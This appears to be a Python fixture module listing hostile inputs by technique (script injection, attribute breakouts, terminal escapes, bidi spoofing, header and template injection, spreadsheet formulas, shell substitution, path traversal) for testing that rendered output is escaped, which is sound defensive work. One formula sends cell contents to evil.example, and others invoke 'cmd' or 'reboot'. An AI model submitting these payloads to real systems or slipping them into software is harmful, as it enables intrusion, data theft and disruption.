"""Texts that somebody may send to do harm where they are shown, by what they try."""

from __future__ import annotations

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "drawing": "<svg/onload=alert(1)><set attributeName=href to=javascript:alert(1)>",
    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "attribute": '" onmouseover="alert(1)" x="',
    "other-attribute": "' autofocus onfocus='alert(1)' x='",
    "bare-attribute": " onfocus=alert(1) autofocus tabindex=1 ",
    "style": '" style="position:fixed;inset:0;background:url(//evil.example/x)',
    "spoofed-page": "</td></tr></tbody></table></main><main><h1>Signed out</h1><form action=//evil.example><input>",
    "closed-texts": "</textarea></title></pre></option></select></script></style><base href=//evil.example/>",
    "redirect": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "comment": "<!--><script>alert(1)</script--><!-- ]]> <![CDATA[",
    "script-link": "javascript:alert(1)//",
    "hidden-script-link": "\x01java\tscript:alert(1)",
    "data-link": "data:text/html,<script>alert(1)</script>",
    "template": "{{ 7 * 7 }}{% include 'layout.html' %}{# #}${7*7}",
    "entities": "&lt;script&gt;&#x3c;img src=x&#62;&quot;&amp;",
    "seven-bits": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\link\x9b31m\x90q\x9c",
    "overprinted": "all passed\r\x1b[Kfailed\b\b\b\b\b\b",
    "turned-around": "safe\u202egnp.exe\u202c\u2066\u2067\u2069\u200f\u061c",
    "header": "a\r\nSet-Cookie: dispatch-session=b\r\nLocation: //evil.example\r\n\r\n<h1>x</h1>",
    "nothing": "a\x00b\x7fc",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "command": "=cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "plus": "+1+1",
    "minus": "-2+3",
    "blank-formula": "\t=1+1",
    "wide-formula": "\uff1d1+1",
    "ci-command": "::set-output name=x::y\n##vso[task.setvariable]z",
    "shell": "$(reboot) `reboot` ; reboot #",
    "stacked": "Z" + "\u0301\u0489" * 100,
    "long": "x" * 4000,
    "path": "../../etc/passwd%2f..%00",
    "markdown-script": "[x](javascript:alert(1)) <javascript:alert(1)> [z](vbscript:x)\n\n[y]: data:text/html,z\n\n[y]",
    "markdown-page": "[x](//evil.example) [y](/sign-out) [z](#main) [w](https:evil) <a@evil.example> http://evil.example",
    "markdown-image": "![x](http://evil.example/x.png 'y') [![y](http://evil.example/y)](http://evil.example) ![z](x)",
    "markdown-turns": "&#x202e;&#8238;&rlm;&#x1b;[31m `&#x202e;` [a&#x202e;b](http://evil.example/&#x202e; '&#x202e;')",
    "markdown-markup": '# h\n\n### s\n\n<script>\n</script>\n\n```x" onclick=y\n</pre>\n```\n\n|a|b|\n|:-|-:|\n|<b>|`|',
}


def named(text: str) -> str:
    """A text as a name, which a lab takes only if all of it can be printed."""
    return "".join(each if each.isprintable() else "_" for each in text)[:200]
